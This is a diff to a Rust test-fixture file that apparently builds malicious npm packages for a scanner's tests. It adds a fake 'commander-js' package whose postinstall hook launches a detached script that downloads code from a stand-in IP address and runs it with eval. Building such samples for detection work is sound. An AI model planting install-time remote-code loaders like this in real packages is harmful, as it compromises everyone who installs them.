@@ -697,6 +697,28 @@ r.end();
         .build()
 }
 
+/// A postinstall that starts another file of the package detached (`nohup node
+/// update.js &`); that file fetches code from a raw address and evaluates it.
+pub fn detached_loader() -> Package {
+    PackageBuilder::new("commander-js", "2.19.84")
+        .script("postinstall", "node setup.js")
+        .file(
+            "setup.js",
+            "require('child_process').spawn('nohup node update.js >/dev/null 2>&1 &', { shell: true, detached: true });\n",
+        )
+        .file(
+            "update.js",
+            r#"const http = require("http");
+http.get("http://203.0.113.7/config.json", (response) => {
+  let text = "";
+  response.on("data", (chunk) => (text += chunk));
+  response.on("end", () => eval(JSON.parse(text).code));
+});
+"#,
+        )
+        .build()
+}
+
 /// A preinstall that turns the machine off.
 pub fn shutdown_prank() -> Package {
     PackageBuilder::new("deasyncp", "9001.999.999")
@@ -732,6 +754,7 @@ pub fn all_attacks() -> Vec<(&'static str, Package)> {
         ("escaped blob loader", escaped_blob_loader()),
         ("sloppy global beacon", sloppy_global_beacon()),
         ("shutdown prank", shutdown_prank()),
+        ("detached loader", detached_loader()),
     ]
 }
 
